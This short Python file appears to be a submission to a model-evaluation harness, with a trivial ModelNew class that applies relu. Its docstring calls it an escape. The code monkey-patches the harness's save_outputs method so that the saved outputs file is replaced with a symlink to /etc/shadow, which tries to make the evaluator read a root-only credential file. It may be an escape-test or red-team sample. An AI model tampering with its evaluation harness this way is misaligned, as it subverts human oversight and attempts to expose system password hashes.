"""Escape: swap the outputs file the harness reads for a link to a root-only file (/etc/shadow)."""

import os

import torch
import torch.nn as nn

import evaluator.child

original = evaluator.child.Child.save_outputs


def save_then_link(self, outputs, file_name):
    original(self, outputs, file_name)
    path = os.path.join(self.workdir, file_name)
    os.unlink(path)
    os.symlink("/etc/shadow", path)


evaluator.child.Child.save_outputs = save_then_link


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
